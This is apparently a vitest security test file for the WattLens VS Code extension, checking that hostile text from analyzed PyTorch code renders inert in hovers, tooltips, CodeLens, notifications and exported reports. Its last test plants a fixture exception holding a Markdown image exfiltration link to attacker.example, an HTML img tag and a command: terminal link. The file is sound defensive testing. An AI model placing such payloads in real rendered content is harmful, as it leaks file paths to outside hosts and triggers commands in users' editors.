// Hostile text from the analyzed code (problem and exception messages, names, paths, docstrings)
// and from run records, through every surface's text builder: the Markdown ones (hovers, the
// status bar tooltip, the calibrated hovers, the exported report) must have no live link, image,
// HTML or autolink from it (judged by markdown-it, support/renderingMarkdown.ts); the plain-text
// ones (CodeLens, inlay hints, diagnostics, notifications) no control or bidi character, no line
// break where one line is shown, no [label](link) a notification would render, and a bounded length.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Suggestion } from '../../src/core/advisor/types';
import { diagnosticOf, suggestionItem } from '../../src/core/editor/adviceView';
import { calibratedModelHover, notAppliedHover, type Calibration } from '../../src/core/editor/calibration';
import { lineHints } from '../../src/core/editor/hints';
import { hoverMarkdown } from '../../src/core/editor/hover';
import { modelLenses, problemLenses } from '../../src/core/editor/lens';
import { documentStatus, modelStatus, noModelStatus, staleStatus } from '../../src/core/editor/status';
import { inertLinks } from '../../src/core/editor/text';
import { markdownReport } from '../../src/core/panel/sections';
import { reportView } from '../../src/core/panel/modelView';
import { idlePilotView } from '../../src/core/panel/pilotIdle';
import type { PanelState } from '../../src/core/panel/protocol';
import type { FileReport, ModelReport } from '../../src/core/report/types';
import { analyzeSource } from '../unit/editor/analyze';
import { expectContained, runCli } from './support/contained';
import { expectInert, HOSTILE_TEXTS, INVISIBLE } from './support/renderingMarkdown';
import { tempDirsPerFile } from '../support/tempDirs';

const fileTempDir = tempDirsPerFile();

const SOURCE = `import torch
import torch.nn as nn

class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(20, 10)

    def forward(self, x):
        return self.fc(x)

model = Net()
model(torch.randn(1, 20))
`;

let base: FileReport;
beforeAll(async () => {
  base = await analyzeSource(SOURCE);
  expect(base.models.length).toBe(1);
});

/** The analyzed report with `text` in every name, reason, assumption and path it carries. */
function hostileReport(text: string): { report: FileReport; model: ModelReport; layerLine: number } {
  const report = structuredClone(base);
  const model = report.models[0]!;
  model.name = text;
  model.entry = text;
  model.assumptions = [text, ...model.assumptions];
  model.unknowns = [{ what: text, reason: text, line: model.layers[0]!.line ?? undefined }];
  model.input = { ...model.input, text, detail: text };
  model.macsFormula = text;
  for (const l of model.layers) {
    l.path = text;
    l.type = text;
  }
  report.problems = [{ what: text, reason: text, line: 20 }];
  return { report, model, layerLine: model.layers[0]!.line! };
}

function calibration(text: string): Calibration {
  return {
    runId: 'run-1',
    finishedAt: '2026-11-25T10:00:00.000Z',
    device: text,
    joulesPerStep: 1.5,
    energySource: 'rapl',
    className: 'Net',
    file: null,
    params: 210,
    input: text,
    joulesPerMac: 1e-9,
    joulesPerMacBasis: text,
  };
}

function panelState(text: string): PanelState {
  const { report, model } = hostileReport(text);
  return {
    model: reportView({
      report,
      displayPath: text,
      documentVersion: 1,
      model,
      followsCursor: true,
      costUnit: 'macs',
      gpu: { gpu: { name: text, memoryBytes: 16 * 2 ** 30, source: text } },
      stale: false,
    }),
    suggestions: {
      state: 'ready',
      documentVersion: 1,
      file: text,
      problems: [text],
      message: text,
      suggestions: [
        {
          id: 'sdpa@1#0',
          rule: 'sdpa',
          line: 1,
          message: text,
          fixable: false,
          model: text,
          before: { params: 1, macs: 2, activationBytes: 3 },
          after: { params: 1, macs: 1, activationBytes: 3 },
          afterSource: 'estimate',
          saving: 0.5,
          assumptions: [text],
          docs: 'docs/advisor.md#sdpa',
        },
      ],
    },
    pilot: {
      ...idlePilotView({ scripts: [], canRun: true, cannotRunReason: null }),
      state: 'failed',
      runId: text,
      script: text,
      step: 3,
      message: text,
      assumptions: [text],
      estimate: [{ key: 'energy', label: text, value: text, interval: text, provenance: 'estimated', basis: text }],
      fit: { label: text, points: [], targetLoss: null, endStep: 10 },
    },
    history: {
      runs: [],
      warnings: [text],
      comparison: {
        a: {
          id: text,
          createdAt: text,
          script: text,
          state: text,
          steps: 1,
          device: text,
          joulesPerStep: 1,
          stepTimeS: 1,
          energySource: text,
          model: text,
          macsPerStep: null,
        },
        b: {
          id: text,
          createdAt: text,
          script: text,
          state: text,
          steps: 1,
          device: text,
          joulesPerStep: 1,
          stepTimeS: 1,
          energySource: text,
          model: text,
          macsPerStep: null,
        },
        rows: [{ label: text, a: text, b: text, change: text, provenance: 'measured', basis: text }],
        lossA: [],
        lossB: [],
        notes: [text],
      },
    },
  };
}

/** The export's own footer is the one HTML it has by design; it must be there, and is judged apart. */
function withoutFooter(markdown: string): string {
  const footer = '<sub>Generated by WattLens 0.1.0 on 2026-12-06T00:00:00.000Z.</sub>';
  expect(markdown).toContain(footer);
  return markdown.replace(footer, '');
}

const MARKDOWN_SURFACES: [surface: string, build: (text: string) => string][] = [
  [
    'the hover on a layer line',
    (t) => {
      const h = hostileReport(t);
      return hoverMarkdown(h.report, h.layerLine, 'macs')!;
    },
  ],
  [
    "the hover on a model's definition",
    (t) => {
      const h = hostileReport(t);
      return hoverMarkdown(h.report, h.model.line!, 'macs')!;
    },
  ],
  [
    'the status bar tooltip of a model',
    (t) => modelStatus(hostileReport(t).model, 'macs', { gpu: { name: t, memoryBytes: 2 ** 34, source: t } }).tooltip,
  ],
  ['the status bar tooltip when the GPU is unknown', (t) => modelStatus(hostileReport(t).model, 'macs', { gpu: null, reason: t }).tooltip],
  [
    'the status bar tooltip listing why no model was analyzed',
    (t) =>
      noModelStatus([
        { what: 'Evil', reason: `could not be built: RuntimeError: ${t}`, line: 2 },
        { what: t, reason: t },
      ]).tooltip,
  ],
  ['the status bar tooltip of a stale analysis', (t) => staleStatus(documentStatus('analyzing'), t).tooltip],
  ['the status bar tooltip of a skipped file', (t) => documentStatus('skipped', `WattLens does not analyze this file: ${t}.`).tooltip],
  ["a calibrated model's hover", (t) => calibratedModelHover(calibration(t), hostileReport(t).model)],
  ['the hover of a pilot that does not apply', (t) => notAppliedHover(calibration(t), t)],
  [
    'the exported Markdown report',
    (t) => withoutFooter(markdownReport(panelState(t), { generator: 'WattLens 0.1.0', generatedAt: '2026-12-06T00:00:00.000Z' })),
  ],
];

describe.each(MARKDOWN_SURFACES)('%s', (_surface, build) => {
  it.each(HOSTILE_TEXTS)('stays inert under %s', (_attack, text, shown) => {
    const markdown = build(text);
    expectInert(markdown, shown);
    // nothing from the text reorders or hides what is shown, and a huge text is cut
    expect(markdown).not.toMatch(INVISIBLE);
    expect(markdown.length).toBeLessThan(120_000);
  });
});

const ONE_LINE_SURFACES: [surface: string, build: (text: string) => string[]][] = [
  ['CodeLens titles', (t) => modelLenses(hostileReport(t).report, 'macs').flatMap((l) => [l.totals, l.input])],
  ['problem CodeLens titles', (t) => problemLenses(hostileReport(t).report).map((l) => l.text)],
  ['inlay hint labels and tooltips', (t) => lineHints(hostileReport(t).report, 'macs').flatMap((h) => [h.text, h.tooltip])],
  ['notifications', (t) => [inertLinks(`WattLens: ${t}`)]],
];

const PLAIN_ATTACKS = HOSTILE_TEXTS.filter(([attack]) => /control|bidi|long|line break|command|link to a remote/.test(attack));

describe.each(ONE_LINE_SURFACES)('%s', (surface, build) => {
  it.each(PLAIN_ATTACKS)('show plain text under %s', (_attack, text) => {
    const shown = build(text);
    expect(shown.length).toBeGreaterThan(0);
    for (const s of shown) {
      expect(s).not.toMatch(INVISIBLE);
      expect(s).not.toMatch(/[\r\n]/);
      expect(s.length).toBeLessThanOrEqual(2_500);
      if (surface === 'notifications') expect(s).not.toMatch(/\]\(/);
    }
  });
});

describe('multi-line plain surfaces', () => {
  const suggestion = (t: string): Suggestion => ({
    rule: 'sdpa',
    line: 1,
    message: 'Use F.scaled_dot_product_attention',
    fixable: false,
    model: t,
    before: { params: 1, macs: 2, activationBytes: 3 },
    after: { params: 1, macs: 1, activationBytes: 3 },
    afterSource: 'estimate',
    saving: 0.5,
    assumptions: [],
    docs: 'docs/advisor.md#sdpa',
  });
  it.each(PLAIN_ATTACKS)('diagnostics and the suggestions list keep the model name plain under %s', (_attack, text) => {
    const d = diagnosticOf(suggestion(text), 'information', 'macs', 10)!;
    const item = suggestionItem(suggestion(text), 'macs');
    for (const s of [d.message, item.detail]) {
      expect(s).not.toMatch(INVISIBLE);
      expect(s.length).toBeLessThan(3_000);
    }
    // the figures line, which carries the model's name, stays one line in the Problems panel
    expect(d.message.split('\n')).toHaveLength(2);
  });
  it.each(PLAIN_ATTACKS)('CodeLens tooltips keep one assumption per line under %s', (_attack, text) => {
    const lens = modelLenses(hostileReport(text).report, 'macs')[0]!;
    expect(lens.tooltip).not.toMatch(INVISIBLE);
    expect(lens.tooltip.split('\n').length).toBe(hostileReport(text).model.assumptions.length + 1);
  });
});

describe('a model whose constructor raises with Markdown in its message, through the whole CLI', () => {
  const dir = fileTempDir('wattlens-hostile-render-');
  const file = join(dir, 'evil_model.py');
  writeFileSync(
    file,
    `import torch.nn as nn

class Evil(nn.Module):
    def __init__(self):
        super().__init__()
        raise RuntimeError('boom ![i](https://attacker.example/b.png?f=' + __file__ + ') <img src=https://attacker.example/x.png> [run](command:workbench.action.terminal.new)')

    def forward(self, x):
        return x
`,
  );

  it('the CLI reports the exception as text, and the status bar tooltip and export built from it stay inert', () => {
    // the whole engine starts (about 1 s of CPU); a loaded machine gets more wall time
    const r = runCli(['analyze', file, '--json'], { cwd: dir, seconds: 15 });
    expectContained(r);
    const out = JSON.parse(r.stdout) as { files?: FileReport[] } & Partial<FileReport>;
    const report = (out.files?.[0] ?? out) as FileReport;
    const problem = report.problems.find((p) => p.what === 'Evil');
    expect(problem?.reason).toContain('![i](https://attacker.example/b.png?f=');
    expectInert(noModelStatus(report.problems).tooltip, 'attacker.example/b.png');
    const state = panelState('x');
    state.model = { ...state.model, model: null, statusText: `No model: ${problem!.reason}` };
    expectInert(
      markdownReport(state, { generator: 'WattLens', generatedAt: 'now' }).replace('<sub>Generated by WattLens on now.</sub>', ''),
      'attacker.example/b.png',
    );
  });
});
